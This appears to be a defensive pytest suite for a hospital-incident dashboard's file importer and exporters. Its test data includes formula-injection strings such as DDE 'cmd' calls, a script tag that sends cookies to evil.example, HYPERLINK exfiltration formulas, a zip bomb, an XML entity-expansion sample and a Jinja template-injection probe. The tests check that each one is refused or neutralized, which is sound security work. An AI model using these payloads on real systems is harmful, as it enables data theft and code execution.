"""Hostile input: random bytes, huge cells, broken XLSX, zip bombs, formula injection, HTML.

Nothing may crash with a traceback (a clear :class:`geo.io.ingest.ImportError_` is fine), every
row is accounted for (accepted + rejected + duplicates == total), a refused file leaves the
store unchanged, and every CSV/XLSX we write neutralizes formulas.
"""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from core import safeio
from core import settings as geo_settings
from core.db import incident_count, load_incidents
from geo.io.ingest import ImportError_, import_file

ROOT = Path(__file__).resolve().parent.parent
HEADER = ["警情编号", "报警时间", "经度", "纬度", "报警内容", "报警人", "报警电话"]
#: Near 协和医院 (WGS-84), inside China.
LON, LAT = 116.4166, 39.9120
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看详情")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
HTML = '<script>alert("xss")</script><img src=x onerror=alert(1)><b>加粗</b>'
SLOW = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def _csv(rows: list[list[str]], header: list[str] = HEADER) -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue().encode("utf-8")


def _row(i: int, desc: str = "挂号大厅有人倒号", when: str = "2026-10-01 08:30:00") -> list[str]:
    return [f"J{i:06d}", when, f"{LON + i * 1e-6:.6f}", f"{LAT:.6f}", desc, "张伟", "13812345678"]


def _import(data: bytes, engine, **kw):
    """Import and check the invariants; returns the result or None when refused cleanly."""
    before = incident_count(engine)
    try:
        result = import_file(data, engine=engine, source="110", filename=kw.pop("filename", "hostile.csv"), **kw)
    except ImportError_ as exc:
        assert str(exc).strip(), "the refusal must say why"
        assert incident_count(engine) == before, "a refused file must not change the store"
        return None
    assert result.accepted + result.rejected + result.duplicates == result.total
    assert incident_count(engine) == before + result.accepted
    return result


@pytest.fixture(autouse=True)
def _var_dir(tmp_path, monkeypatch):
    monkeypatch.setattr(geo_settings, "VAR_DIR", tmp_path / "var")


# --------------------------------------------------------------------------- random input


@SLOW
@given(data=st.binary(max_size=4000))
def test_random_bytes_never_crash(empty_engine, data):
    _import(data, empty_engine)


@SLOW
@given(data=st.binary(max_size=2000))
def test_random_bytes_after_a_zip_signature_never_crash(empty_engine, data):
    _import(b"PK\x03\x04" + data, empty_engine, filename="hostile.xlsx")


@SLOW
@given(data=st.binary(min_size=1, max_size=2000), bom=st.sampled_from([b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff"]))
def test_random_bytes_after_a_bom_never_crash(empty_engine, data, bom):
    _import(bom + data, empty_engine)


# NUL is left out: a NUL byte makes the importer refuse the whole file as binary (tested separately).
_cell = st.one_of(
    # Lone surrogates (category Cs) cannot be written to a UTF-8 file at all, so no export contains them.
    st.text(alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), max_size=60),
    st.sampled_from([*INJECTIONS, HTML, "", " ", "\n", '"', ",,,", "\ufffd", "😀" * 5]),
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cells=st.lists(st.tuples(_cell, _cell, _cell), min_size=1, max_size=25))
def test_random_cells_are_all_accounted_for(empty_engine, cells):
    rows = []
    for i, (desc, name, when) in enumerate(cells):
        r = _row(i, desc=desc)
        r[5] = name
        if i % 3 == 0:
            r[1] = when  # often an invalid time: rejected, never lost
        rows.append(r)
    result = _import(_csv(rows), empty_engine)
    assert result is not None
    assert result.total == len(rows)  # each row has an id, so none is blank


def test_nul_byte_rejects_its_row_and_keeps_the_others(empty_engine):
    result = _import(_csv([_row(1, desc="a\x00b"), _row(2)]), empty_engine)
    assert result is not None and (result.total, result.rejected) == (2, 1)


def test_mostly_binary_file_is_refused_cleanly(empty_engine):
    assert _import(bytes(range(256)) * 64, empty_engine) is None


# --------------------------------------------------------------------------- size limits


def test_huge_cell_is_rejected_with_a_reason_and_other_rows_kept(empty_engine):
    rows = [_row(1), _row(2, desc="号" * (geo_settings.MAX_CELL_CHARS + 1)), _row(3, desc="x" * 2_000_000)]
    result = _import(_csv(rows), empty_engine)
    assert (result.total, result.accepted, result.rejected) == (3, 1, 2)
    assert result.rejected_rows["原因"].str.contains("字符").all()


def test_file_over_the_size_limit_is_refused(empty_engine, monkeypatch, tmp_path):
    monkeypatch.setattr(geo_settings, "MAX_IMPORT_BYTES", 1000)
    data = _csv([_row(i) for i in range(50)])
    assert len(data) > 1000
    with pytest.raises(ImportError_, match="过大"):
        import_file(data, engine=empty_engine, source="110")
    path = tmp_path / "big.csv"
    path.write_bytes(data)
    with pytest.raises(ImportError_, match="过大"):
        import_file(path, engine=empty_engine, source="110")
    assert incident_count(empty_engine) == 0


def _xlsx(rows: list[list[object]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_zip_bomb_is_refused_before_decompression(empty_engine, monkeypatch):
    monkeypatch.setattr(geo_settings, "MAX_XLSX_UNCOMPRESSED_BYTES", 5_000_000)
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_xlsx([_row(1)]))) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item))
        # 50 MB of zeros compress to ~50 kB: ratio ~1000:1.
        dst.writestr("xl/media/bomb.bin", b"\0" * 50_000_000)
    data = buf.getvalue()
    assert len(data) < 200_000
    with pytest.raises(ImportError_, match="压缩炸弹"):
        import_file(data, engine=empty_engine, source="110", filename="bomb.xlsx")
    assert incident_count(empty_engine) == 0


def _replace_member(xlsx: bytes, member: str, content: bytes | None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if item.filename == member:
                if content is not None:
                    dst.writestr(item, content)
            else:
                dst.writestr(item, src.read(item))
    return buf.getvalue()


@pytest.mark.parametrize(
    "damage",
    [
        pytest.param(lambda b: b[: len(b) // 2], id="truncated"),
        pytest.param(lambda b: _replace_member(b, "xl/workbook.xml", None), id="no-workbook"),
        pytest.param(lambda b: _replace_member(b, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row>"),
                     id="broken-sheet-xml"),
        pytest.param(lambda b: _replace_member(b, "xl/worksheets/sheet1.xml", None), id="missing-sheet"),
        pytest.param(lambda b: _replace_member(b, "xl/sharedStrings.xml", b"\x00\x01garbage"), id="garbage-strings"),
        pytest.param(
            lambda b: _replace_member(
                b, "xl/worksheets/sheet1.xml",
                b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
                b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><worksheet><sheetData><row><c t="inlineStr"><is><t>&c;'
                b"</t></is></c></row></sheetData></worksheet>",
            ),
            id="xml-entity-expansion",
        ),
    ],
)
def test_broken_xlsx_is_refused_cleanly(empty_engine, damage):
    data = damage(_xlsx([_row(i) for i in range(5)]))
    result = _import(data, empty_engine, filename="broken.xlsx")
    if result is not None:  # a damaged part that does not hold rows may still import
        assert result.total <= 5


# --------------------------------------------------------------------------- formulas and HTML


def test_quarantine_file_neutralizes_formulas(empty_engine):
    rows = [_row(i, desc=inj, when="不是时间") for i, inj in enumerate(INJECTIONS)]
    rows += [_row(100 + i, desc=inj) for i, inj in enumerate(INJECTIONS)]
    result = _import(_csv(rows), empty_engine)
    assert result.rejected == len(INJECTIONS) and result.accepted == len(INJECTIONS)
    quarantine = Path(result.quarantine_path).read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(quarantine)) for c in row]
    assert cells, "quarantine file is empty"
    for c in cells:
        assert not safeio.is_dangerous(c), f"dangerous cell in quarantine: {c!r}"
    # The stored text is the original (neutralized only when written to a spreadsheet).
    stored = set(load_incidents(empty_engine)["description"])
    assert {s.strip() for s in INJECTIONS} <= {s.strip() for s in stored}


def test_csv_writer_prefixes_every_formula_and_keeps_numbers():
    df = pd.DataFrame({"text": [*INJECTIONS, "正常文本", "-"], "n": range(len(INJECTIONS) + 2)})
    df["neg"] = -1.5
    out = pd.read_csv(io.BytesIO(safeio.frame_to_csv_bytes(df)), encoding="utf-8-sig", dtype=str,
                      keep_default_na=False)
    for original, written in zip(df["text"], out["text"], strict=True):
        if safeio.is_dangerous(original):
            assert written == "'" + original
        else:
            assert written == original
    assert (out["neg"] == "-1.5").all()  # numbers are not text: untouched


def test_xlsx_writer_stores_formulas_as_text():
    df = pd.DataFrame({"描述": [*INJECTIONS, HTML, "\x01控制字符\x0b"], "数量": range(len(INJECTIONS) + 2)})
    data = safeio.frames_to_xlsx_bytes({"计划": df, "=BAD()": df.head(1)})
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value!r}"
    values = [c.value for c in wb["计划"]["A"][1:]]
    # XML normalizes a carriage return to a line feed.
    assert values[: len(INJECTIONS)] == [v.replace("\r", "\n") for v in INJECTIONS]
    assert values[len(INJECTIONS)] == HTML
    assert values[-1] == "控制字符"
    assert all(wb["计划"][f"A{i + 2}"].quotePrefix for i in range(len(INJECTIONS)))


def test_harden_workbook_turns_formulas_into_text():
    wb = Workbook()
    wb.active["A1"] = "=HYPERLINK(\"http://evil\")"
    wb.active["A2"] = 3
    assert safeio.harden_workbook(wb) == 1
    assert wb.active["A1"].data_type == "s" and wb.active["A2"].value == 3


def test_html_in_descriptions_is_stored_as_plain_text(empty_engine):
    result = _import(_csv([_row(1, desc=HTML)]), empty_engine)
    assert result.accepted == 1
    assert load_incidents(empty_engine)["description"].iloc[0] == HTML


#: Pages that build HTML panels on purpose (the meeting screen's dark panels, page-local CSS). Every value from the
#: data in them goes through ``html.escape`` (``esc``) or ``ui.html_table``; the Chromium test of hostile names
#: checks the result. A new module that renders HTML must be reviewed and added here.
REVIEWED_HTML_MODULES = {"dashboard/views/screen.py", "dashboard/ui.py", "dashboard/views/today.py"}


def _unsafe_html_calls() -> list[str]:
    """Calls in dashboard/ that render HTML from anything but a literal string (outside the reviewed modules)."""
    bad = []
    for path in (ROOT / "dashboard").rglob("*.py"):
        if "static" in path.parts or str(path.relative_to(ROOT)) in REVIEWED_HTML_MODULES:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            unsafe = any(
                k.arg == "unsafe_allow_html" and not (isinstance(k.value, ast.Constant) and k.value.value is False)
                for k in node.keywords
            )
            func = ast.unparse(node.func)
            literal = bool(node.args) and isinstance(node.args[0], ast.Constant)
            if (unsafe or func.endswith(("components.html", "st.html"))) and not literal:
                bad.append(f"{path.relative_to(ROOT)}:{node.lineno}: {func}")
    return bad


def test_dashboard_never_renders_user_data_as_html():
    assert _unsafe_html_calls() == []


@pytest.mark.parametrize(
    "payload",
    [
        pytest.param(b"PK\x03\x04" + bytes(range(256)) * 4, id="fake-zip"),
        pytest.param(b"\xff\xfe\x00", id="odd-utf16"),
        pytest.param(bytes(range(256)) * 8, id="binary"),
    ],
)
def test_cli_import_of_hostile_file_prints_one_line(empty_engine, tmp_path, capsys, payload):
    from planning.cli import main

    path = tmp_path / "hostile.csv"
    path.write_bytes(payload)
    assert main(["import", str(path), "--source", "110", "--db", empty_engine.url.render_as_string(hide_password=False)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("错误") and err.count("\n") == 1 and "Traceback" not in err
    assert incident_count(empty_engine) == 0


def test_dashboard_writes_spreadsheets_only_through_safe_writers():
    """Downloads offered by the dashboard go through core.safeio or the planning exports."""
    offenders = []
    for path in (ROOT / "dashboard").rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in (
                "to_csv", "to_excel", "writer", "Workbook",
            ):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}: {ast.unparse(node.func)}")
    assert offenders == []


# --------------------------------------------------------------------------- no markup from data (issue 11)

#: Strings an attacker can put into a hospital name, display name, CSV header or cell.
HOSTILE = [
    "![x](http://evil.example/pixel.png)",
    "[请点此重新登录](http://evil.example/login)",
    '<a href="http://evil.example/login">请点此重新登录</a>',
    '<img src="http://evil.example/x.png"/>',
    "<b>加粗</b><font color=red>红</font>",
    ":red[警告] :material/warning: $x^2$ **粗体** `代码`",
    "http://evil.example/autolink www.evil.example",
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
    "& &amp; &lt; \\ \\\\ ]]> <![CDATA[x]]>",
    '=HYPERLINK("http://evil.example","点我")',
    # Jinja (folium renders maps through it): evaluated, these print 49, a loop, or the server's directory.
    "{{ 7*7 }}号医院",
    "{% for i in range(3) %}环{% endfor %}",
    "{{ cycler.__init__.__globals__.os.getcwd() }}",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_helper_leaves_no_markup(text):
    """CommonMark shows a backslash-escaped ASCII punctuation character as itself: no punctuation may stay bare."""
    import re
    import string

    from dashboard.safe import md

    out = md(text)
    bare = re.sub(r"\\.", "", out)  # drop every escaped pair
    assert not [c for c in bare if c in string.punctuation], out
    assert "\n" not in out  # one line: no new block can start
    assert re.sub(r"\\(.)", r"\1", out).replace("\u2060", "") == text  # unescaped, it is the text itself
    assert "http://" not in out.replace("\\", "") and "www." not in out.replace("\\", "")  # no bare autolink


def test_hostile_hospital_names_come_out_inert_in_the_pdf_xlsx_and_csv(tmp_path_factory):
    from pypdf import PdfReader
    from sqlalchemy import update

    from core.db.schema import Hospital
    from core.trust.access import AccessScope
    from planning.export.pdf import export_pdf
    from planning.export.xlsx import export_xlsx
    from planning.plan import make_plan
    from tests._planning_store import HOSPITALS, MONTH, writable

    engine = writable(tmp_path_factory, "hostile-pdf")
    names = dict(zip(HOSPITALS, HOSTILE, strict=False))
    with engine.begin() as conn:
        for hid, name in names.items():
            conn.execute(update(Hospital).where(Hospital.id == hid).values(name=name, district=name[:40]))
    plan = make_plan(engine, month=MONTH, seed=3)
    scope = AccessScope(role="commander", username="cmd")
    data = export_pdf(plan, scope=scope)  # an <img> tag used to abort the export
    reader = PdfReader(io.BytesIO(data))
    annots = [a.get_object() for p in reader.pages for a in (p.get("/Annots") or [])]
    assert not [a for a in annots if "/A" in a], "a link was injected into the PDF"
    assert b"/URI" not in data
    text = "".join(p.extract_text() for p in reader.pages)
    listed = {h for h in plan.actions["hospital_id"]} if len(plan.actions) else set()
    for hid in listed:
        assert names[hid].replace(" ", "")[:12] in text.replace(" ", "").replace("\n", "")
    wb = load_workbook(io.BytesIO(export_xlsx(plan, scope=scope)))
    cells = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c for c in cells if c[:1] in "=+-@\t\r"]


# --------------------------------------------------------------------------- bounded imports (issue 11)

_PROBE = r"""
import json, resource, sys, time
from core.db import get_engine
from geo.io.ingest import ImportError_, import_file, read_grid
data = open(sys.argv[1], "rb").read()
t = time.monotonic()
out = {}
try:
    if sys.argv[3] == "preview":
        grid, _ = read_grid(data, max_rows=1000)
        out["rows"] = len(grid)
    else:
        out["summary"] = import_file(data, engine=get_engine(sys.argv[2]), source="110", filename="f").summary()
except ImportError_ as exc:
    out["refused"] = str(exc)
out["seconds"] = time.monotonic() - t
out["max_rss_mb"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
print(json.dumps(out, ensure_ascii=False))
"""


def _probe(path: Path, tmp_path: Path, mode: str) -> dict:
    import json
    import subprocess
    import sys

    url = f"sqlite:///{tmp_path / f'probe-{mode}.sqlite'}"
    r = subprocess.run(
        [sys.executable, "-c", _PROBE, str(path), url, mode], capture_output=True, text=True, timeout=300, cwd=ROOT
    )
    assert r.returncode == 0, r.stderr[-3000:]
    return json.loads(r.stdout.strip().splitlines()[-1])


def _xlsx_with_sheet(sheet_xml_parts, path: Path) -> Path:
    """An XLSX whose first worksheet XML is replaced by the streamed ``sheet_xml_parts``."""
    wb = Workbook()
    wb.active.append(HEADER)
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with dst.open("xl/worksheets/sheet1.xml", "w") as fh:
                    for part in sheet_xml_parts:
                        fh.write(part)
            else:
                dst.writestr(info, src.read(info.filename))
    return path


def _sheet(rows_xml, dimension: str | None):
    head = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    yield head.encode()
    if dimension:
        yield f'<dimension ref="{dimension}"/>'.encode()
    yield b"<sheetData>"
    cells = "".join(f'<c r="{chr(65 + j)}1" t="inlineStr"><is><t>{h}</t></is></c>' for j, h in enumerate(HEADER))
    yield f'<row r="1">{cells}</row>'.encode()
    yield from rows_xml
    yield b"</sheetData></worksheet>"


def _many_rows(start: int, n: int):
    block = 100_000
    for a in range(start, start + n, block):
        yield "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(a, min(a + block, start + n))).encode()


BOMBS = {
    # The reported file: a small XLSX declaring 10.9 million rows.
    "declared_rows": lambda p: _xlsx_with_sheet(_sheet([b'<row r="10900000"><c r="A10900000"><v>1</v></c></row>'],
                                                       "A1:G10900000"), p),
    # The declaration lies (2 rows) and the sheet really has 2.5 million rows.
    "real_rows": lambda p: _xlsx_with_sheet(_sheet(_many_rows(2, 2_500_000), "A1:G2"), p),
    # No declaration; one row far down (openpyxl yields every empty row in between).
    "row_gap": lambda p: _xlsx_with_sheet(_sheet([b'<row r="1900000"><c r="A1900000"><v>1</v></c></row>'], None), p),
    # A cell in the last column (16 384 columns per row).
    "wide": lambda p: _xlsx_with_sheet(_sheet([b'<row r="2"><c r="XFD2"><v>1</v></c></row>'], "A1:XFD2"), p),
}


def _random_text(path: Path, newlines: bool) -> Path:
    import numpy as np

    rng = np.random.default_rng(20261101)
    alphabet = np.frombuffer(b"abcdefghij0123456789,,,,,,;|\t\"' " + (b"\n" if newlines else b""), dtype=np.uint8)
    path.write_bytes(rng.choice(alphabet, 400_000).tobytes())
    return path


@pytest.mark.parametrize("kind", [*BOMBS, "random_text", "random_text_lines"])
@pytest.mark.parametrize("mode", ["import", "preview"])
def test_hostile_files_are_refused_within_the_limits(kind, mode, tmp_path):
    if kind.startswith("random_text"):
        path = _random_text(tmp_path / "random.csv", newlines=kind.endswith("lines"))
    else:
        path = BOMBS[kind](tmp_path / f"{kind}.xlsx")
    assert path.stat().st_size < geo_settings.MAX_IMPORT_BYTES
    out = _probe(path, tmp_path, mode)
    assert out["seconds"] < 30, out
    assert out["max_rss_mb"] < 1024, out
    if mode == "import" or kind != "row_gap":
        assert "refused" in out or out.get("summary", {}).get("accepted", 0) <= 1, out
